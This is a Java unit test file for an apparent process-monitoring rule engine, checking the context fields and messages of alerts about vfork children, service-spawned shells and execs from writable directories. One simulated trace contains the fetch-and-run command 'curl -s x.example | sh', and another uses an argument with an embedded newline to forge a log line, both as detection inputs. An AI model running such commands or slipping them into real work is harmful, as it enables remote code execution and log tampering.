package dev.forkwatch.rules;

import static dev.forkwatch.rules.Ev.clock;
import static dev.forkwatch.rules.Ev.exec;
import static dev.forkwatch.rules.Ev.exit;
import static dev.forkwatch.rules.Ev.ns;
import static dev.forkwatch.rules.Ev.ret;
import static dev.forkwatch.rules.Ev.vfork;
import static org.assertj.core.api.Assertions.assertThat;

import dev.forkwatch.alert.Alert;
import dev.forkwatch.config.Config;
import dev.forkwatch.event.Exec;
import dev.forkwatch.event.Vfork;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** The context fields every alert fills itself (docs/rules.md, "Context fields"), through real compiled rules. */
class AlertContextTest {
    static final String JAVA = "/usr/lib/jvm/java-17-openjdk-amd64/bin/java";
    static final String HELPER = "/usr/lib/jvm/java-17-openjdk-amd64/lib/jspawnhelper";
    static RulePack defaults;

    @BeforeAll
    static void compile() {
        defaults = RulePack.compile(RulePack.embedded(), Config.defaults());
    }

    static List<Alert> run(RulePack pack, List<Object> trace) {
        return DefaultRulesTest.run(pack, trace);
    }

    static Alert only(List<Alert> alerts, String rule) {
        List<Alert> a = alerts.stream().filter(x -> x.rule().equals(rule)).toList();
        assertThat(a).as(rule).hasSize(1);
        return a.get(0);
    }

    @Test
    void javaServiceSpawnsAShellThroughJspawnhelper() {
        // the documented example: the user adds java to the services
        Config cfg = Config.defaults().overlay(Config.parse(
                "params:\n  vfork:\n    service_parents: [nginx, java]\n", "java-service.yaml"));
        RulePack pack = RulePack.compile(RulePack.embedded(), cfg);
        List<Alert> alerts = run(pack, List.of(
                vfork(0, 101, 100, JAVA, "java", "-jar", "/srv/app.jar"),
                exec(1, 101, 1, HELPER, HELPER, "20:21"),
                exec(2, 101, 2, "/bin/sh", "/bin/sh", "-c", "curl -s x.example | sh"),
                exit(50, 101, 0), clock(20_000)));
        Alert a = only(alerts, "Shell spawned by a service");
        assertThat(a.timeNs()).isEqualTo(ns(2));
        // the child's fields describe the newest exec the rule matched: the second one
        assertThat(a.outputFields())
                .containsEntry("proc.pid", 101).containsEntry("proc.ppid", 100)
                .containsEntry("proc.name", "sh")
                .containsEntry("proc.exepath", "/bin/sh")
                .containsEntry("proc.cmdline", "/bin/sh -c curl -s x.example | sh")
                .containsEntry("proc.args", "-c curl -s x.example | sh")
                .containsEntry("proc.pname", "java")
                .containsEntry("proc.pexepath", JAVA)
                .containsEntry("proc.pcmdline", "java -jar /srv/app.jar")
                .containsEntry("proc.aname[2]", "bash").containsEntry("proc.aname[3]", "sshd")
                .containsEntry("proc.aname[4]", "systemd").containsEntry("proc.aname[5]", "")
                .containsEntry("container.id", "3f4a5b6c7d8e").containsEntry("user.name", "alice")
                .containsEntry("user.loginuid", 1000).containsEntry("vfork.exec_index", 2);
        assertThat(a.output()).isEqualTo(JAVA + " (pid 100) spawned a shell: vfork child 101 exec'd /bin/sh (exec 2 of the"
                + " child; cmdline=/bin/sh -c curl -s x.example | sh pcmdline=java -jar /srv/app.jar container=3f4a5b6c7d8e"
                + " user=alice)");
        // without java among the services, nothing
        assertThat(run(defaults, List.of(vfork(0, 101, 100, JAVA, "java"), exec(1, 101, 1, HELPER, HELPER),
                exec(2, 101, 2, "/bin/sh", "sh"), clock(20_000)))).isEmpty();
    }

    @Test
    void aChildThatNeverExecdRunsItsParentsImage() {
        Alert a = only(run(defaults, List.of(vfork(0, 101, 100, JAVA, "java", "-Xmx1g", "Main"), clock(10_000))),
                "Vfork child stalled");
        assertThat(a.outputFields())
                .containsEntry("proc.name", "java")
                .containsEntry("proc.exepath", JAVA).containsEntry("proc.cmdline", "java -Xmx1g Main")
                .containsEntry("proc.args", "-Xmx1g Main")
                .containsEntry("proc.pexepath", JAVA).containsEntry("proc.pcmdline", "java -Xmx1g Main");
        assertThat(a.output()).endsWith("the parent is blocked (cmdline=java -Xmx1g Main container=3f4a5b6c7d8e)");
    }

    @Test
    void parentAlertsAreRelativeToTheParent() {
        Alert a = only(run(defaults, List.of(vfork(0, 101, 100, "/usr/sbin/cron", "/usr/sbin/cron", "-f"),
                exec(2000, 101), ret(2000, 100, 101, 2_000_000_000L), clock(20_000))), "Vfork parent blocked");
        assertThat(a.outputFields())
                .containsEntry("proc.pid", 100)
                .containsEntry("proc.exepath", "/usr/sbin/cron").containsEntry("proc.cmdline", "/usr/sbin/cron -f")
                .containsEntry("proc.args", "-f")
                // the parent's parent is the vfork's nearest ancestor
                .containsEntry("proc.pname", "bash").containsEntry("proc.aname[2]", "sshd")
                .containsEntry("proc.aname[3]", "systemd").containsEntry("proc.aname[4]", "")
                .containsEntry("container.id", "3f4a5b6c7d8e")
                // what the events cannot tell about the parent's own parent is left out
                .doesNotContainKeys("proc.pexepath", "proc.pcmdline", "proc.aname[5]");
    }

    @Test
    void oldTracesGiveDefaultsAndMessagesSayNA() {
        Alert a = only(run(defaults, List.of(new Vfork(ns(0), 101, 100, 1000, "make", "clone3"),
                exec(1, 101, "/tmp/x"), clock(20_000))), "Vfork child exec from writable directory");
        // with no exe_path known, proc.exepath is the path given to execve
        assertThat(a.outputFields()).containsEntry("proc.exepath", "/tmp/x").containsEntry("proc.cmdline", "")
                .containsEntry("proc.args", "").containsEntry("proc.pexepath", "").containsEntry("container.id", "")
                .containsEntry("user.name", "").containsEntry("user.loginuid", -1).containsEntry("proc.aname[2]", "");
        assertThat(a.output()).isEqualTo("vfork child 101 of make (pid 100) exec'd /tmp/x from a world-writable directory"
                + " (cmdline=<NA> container=<NA>)");
    }

    @Test
    void hostileArgumentsStayInTheirFieldAndOnOneLine() {
        Exec x = new Exec(ns(1), 101, "x", "/tmp/x", List.of("/tmp/x", "a\nWarning forged alert", "caf\\xc3", ""), 1,
                0, false, false, "/tmp/x");
        Alert a = only(run(defaults, List.of(vfork(0, 101, 100, "/usr/bin/make", "make"), x, clock(20_000))),
                "Vfork child exec from writable directory");
        // output fields keep the value (JSON escapes it); the message escapes controls, keeps the Text form
        assertThat(a.outputFields()).containsEntry("proc.cmdline", "/tmp/x a\nWarning forged alert caf\\xc3 ")
                .containsEntry("proc.args", "a\nWarning forged alert caf\\xc3 ");
        assertThat(a.output()).doesNotContain("\n").contains("cmdline=/tmp/x a\\x0aWarning forged alert caf\\xc3 ");
    }

    @Test
    void emptyArgvAndUnreadableParentExecutable() {
        Vfork v = new Vfork(ns(0), 101, 100, 0, "x", "vfork", "", List.of(), -1, List.of(), "host", "root");
        Exec x = new Exec(ns(1), 101, "y", "/dev/shm/y", List.of(), 1, 0, false, false, "/dev/shm/y");
        Alert a = only(run(defaults, List.of(v, x, clock(20_000))), "Vfork child exec from writable directory");
        assertThat(a.outputFields()).containsEntry("proc.cmdline", "").containsEntry("proc.args", "")
                .containsEntry("proc.pexepath", "").containsEntry("container.id", "host").containsEntry("user.name", "root");
        assertThat(a.output()).endsWith("(cmdline=<NA> container=host)");
    }

    @Test
    void theNewestOfSeveralMatchedExecsDescribesTheChild() {
        String drl = """
                rule "Two execs"
                    @priority("Notice") @tags("test") @description("a child exec'd twice")
                when
                    $v : Vfork()
                    $b : Exec(pid == $v.pid, execIndex == 2)
                    $a : Exec(pid == $v.pid, execIndex == 1)
                then
                    alerts.child(drools, $v, "%proc.exepath after %proc.aname[2]; %proc.aname[9] stays");
                end
                """;
        RulePack pack = RulePack.compile(List.of(new RuleSource("two.drl", drl)), Config.defaults());
        List<Alert> alerts = run(pack, List.of(vfork(0, 101, 100, JAVA, "java"), exec(1, 101, 1, HELPER, HELPER),
                exec(2, 101, 2, "/usr/bin/id", "id"), clock(20_000)));
        assertThat(alerts).extracting(Alert::output).containsExactly("/usr/bin/id after bash; %proc.aname[9] stays");
    }
}
